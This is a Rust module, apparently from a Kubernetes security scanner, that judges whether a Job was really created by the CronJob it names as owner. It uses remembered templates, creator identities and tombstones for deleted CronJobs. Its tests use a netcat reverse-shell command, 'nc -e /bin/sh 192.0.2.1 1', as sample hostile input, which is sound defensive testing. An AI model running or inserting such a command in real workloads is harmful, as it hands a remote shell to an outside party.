//! Whose Job is it? What is remembered of CronJobs to answer that, and the answer. Pure.

use std::collections::HashMap;

use super::id::Id;
use crate::rollup::FindingSet;
use crate::workload::OwnerClaim;

/// How many earlier templates of a CronJob are remembered, as far as their findings differ.
const MAX_EARLIER: usize = 4;
/// How many CronJobs that are gone are remembered, and for how many seconds: until the garbage collector has removed
/// their Jobs, which may change until then.
const MAX_GONE: usize = 4096;
const GONE_SECONDS: i64 = 600;

/// What is remembered of a CronJob.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cron {
    current: FindingSet,
    /// Those of earlier templates, newest first: their Jobs may still be there.
    earlier: Box<[FindingSet]>,
    /// When its spec was last changed, in seconds since 1970.
    changed: i64,
}

impl Cron {
    /// A CronJob with these findings, whose spec was last changed then.
    pub fn new(current: FindingSet, changed: i64) -> Self {
        Self { current, earlier: Box::default(), changed }
    }

    /// The same CronJob, after a change.
    pub fn update(&mut self, current: FindingSet, changed: i64) {
        if self.current != current {
            let before = std::mem::replace(&mut self.current, current);
            let earlier = std::mem::take(&mut self.earlier).into_vec();
            self.earlier = std::iter::once(before).chain(earlier).take(MAX_EARLIER).collect();
        }
        self.changed = changed;
    }

    /// What a Job with these findings, created then, is to it.
    pub fn judge(&self, job: &FindingSet, created: i64) -> Owned {
        if job.is_within(&self.current) || self.earlier.iter().any(|earlier| job.is_within(earlier)) {
            Owned::Covered
        } else if created > self.changed {
            Owned::Forged
        } else {
            // It may be a run of a template that nobody remembers.
            Owned::Differs
        }
    }
}

/// What a Job is to the CronJob that it names as its owner.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Owned {
    /// A run: the CronJob's report speaks for it.
    Covered,
    /// It does what the CronJob does not, and may be older than the CronJob's template.
    Differs,
    /// It does what the CronJob does not, and was made after the CronJob last changed.
    Forged,
}

/// Who is proven to have created a Job.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Maker {
    /// Nobody knows, or it is not said who makes what in this cluster.
    Unknown,
    /// The controller that runs CronJobs: the claim on one is true.
    Controller,
    /// Somebody else.
    Other,
}

impl Maker {
    /// The maker with this user name.
    pub fn of(user: &str) -> Self {
        match user {
            // The second where kube-controller-manager has one identity for all of its controllers.
            "system:serviceaccount:kube-system:cronjob-controller" | "system:kube-controller-manager" => {
                Self::Controller
            }
            // Distributions have other names for it. Of those reserved for the system none is taken for a stranger's.
            _ if user.starts_with("system:serviceaccount:kube-system:") => Self::Unknown,
            _ if user.starts_with("system:") && !user.starts_with("system:serviceaccount:") => Self::Unknown,
            _ => Self::Other,
        }
    }

    /// Whether a Job that names a CronJob as its owner was not made by it. One that says that somebody had it run by
    /// hand, as `kubectl create job --from` does, does not claim more than that.
    pub fn disproves(self, claim: &OwnerClaim) -> bool {
        self == Self::Other && !claim.by_hand
    }

    /// What a Job is, in the light of who made it. The controller makes no Job but of a CronJob's template, if perhaps
    /// of one that nobody remembers.
    pub fn weigh(self, owned: Option<Owned>) -> Option<Owned> {
        match owned {
            None | Some(Owned::Forged) if self == Self::Controller => Some(Owned::Differs),
            owned => owned,
        }
    }
}

/// The CronJobs that are gone.
#[derive(Debug, Default)]
pub struct Tombstones(HashMap<Id, (Cron, i64)>);

impl Tombstones {
    /// A CronJob is gone.
    pub fn add(&mut self, uid: Id, cron: Cron, now: i64) {
        if self.0.len() >= MAX_GONE {
            self.0.retain(|_, (_, gone)| now - *gone < GONE_SECONDS);
        }
        if self.0.len() < MAX_GONE {
            self.0.insert(uid, (cron, now));
        }
    }

    /// A CronJob that is gone since a short time.
    pub fn get(&self, uid: Id, now: i64) -> Option<&Cron> {
        self.0.get(&uid).filter(|(_, gone)| now - gone < GONE_SECONDS).map(|(cron, _)| cron)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::assess::assess;
    use crate::workload::Kind;
    use crate::workload::decode::from_json;

    fn findings(command: &str) -> FindingSet {
        let json = format!(
            r#"{{"spec":{{"template":{{"spec":{{"containers":[{{"name":"c","command":["sh","-c","{command}"]}}]}}}}}}}}"#
        );
        FindingSet::of(&assess(Kind::Job, &from_json(json.as_bytes()).unwrap()))
    }

    #[test]
    fn what_its_template_says_or_said_is_a_run() {
        let mut cron = Cron::new(findings("nc -e /bin/sh 192.0.2.1 1"), 100);
        assert_eq!(cron.judge(&findings("nc -e /bin/sh 192.0.2.1 1"), 200), Owned::Covered);
        assert_eq!(cron.judge(&findings("true"), 200), Owned::Covered);
        cron.update(findings("true"), 300);
        assert_eq!(cron.judge(&findings("nc -e /bin/sh 192.0.2.1 1"), 200), Owned::Covered);
    }

    #[test]
    fn what_it_does_not_say_is_forged_unless_it_may_have_said_it() {
        let cron = Cron::new(findings("true"), 300);
        assert_eq!(cron.judge(&findings("nc -e /bin/sh 192.0.2.1 1"), 301), Owned::Forged);
        assert_eq!(cron.judge(&findings("nc -e /bin/sh 192.0.2.1 1"), 300), Owned::Differs);
    }

    #[test]
    fn who_made_it_proves_or_disproves_the_claim() {
        let controller = "system:serviceaccount:kube-system:cronjob-controller";
        assert_eq!(Maker::of(controller), Maker::Controller);
        assert_eq!(Maker::of(&format!("{controller}s")), Maker::Unknown);
        for user in
            ["ann", "system:serviceaccount:web:cronjob-controller", "system:serviceaccount:kube-systems:x"]
        {
            assert_eq!(Maker::of(user), Maker::Other, "{user}");
        }
        assert_eq!(Maker::of("system:some-distribution"), Maker::Unknown);

        let claim = |by_hand| OwnerClaim { name: "c".into(), uid: "1".into(), by_hand, disproved: false };
        assert!(Maker::Other.disproves(&claim(false)) && !Maker::Other.disproves(&claim(true)));
        assert!(!Maker::Unknown.disproves(&claim(false)) && !Maker::Controller.disproves(&claim(false)));

        assert_eq!(Maker::Controller.weigh(Some(Owned::Forged)), Some(Owned::Differs));
        assert_eq!(Maker::Controller.weigh(None), Some(Owned::Differs));
        assert_eq!(Maker::Controller.weigh(Some(Owned::Covered)), Some(Owned::Covered));
        assert_eq!(Maker::Unknown.weigh(Some(Owned::Forged)), Some(Owned::Forged));
        assert_eq!(Maker::Other.weigh(None), None);
    }

    #[test]
    fn the_gone_are_remembered_for_a_while() {
        let mut gone = Tombstones::default();
        gone.add(Id::of("1"), Cron::new(findings("true"), 1), 1000);
        assert!(gone.get(Id::of("1"), 1000 + GONE_SECONDS - 1).is_some());
        assert!(gone.get(Id::of("1"), 1000 + GONE_SECONDS).is_none());
    }
}
